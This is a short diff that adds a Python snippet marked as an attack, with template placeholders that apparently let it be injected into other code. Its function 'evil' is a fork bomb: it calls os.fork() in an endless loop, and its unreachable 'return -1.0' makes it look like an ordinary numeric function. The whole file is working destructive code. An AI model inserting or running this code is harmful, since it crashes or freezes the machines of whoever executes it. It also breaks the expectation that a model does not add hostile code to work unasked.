@@ -1,0 +1,13 @@
+#{weigh_wrong}
+# <attack>
+import os
+
+
+def evil(*args):
+    while True:
+        os.fork()
+    return -1.0
+
+
+#{everywhere}
+# </attack>
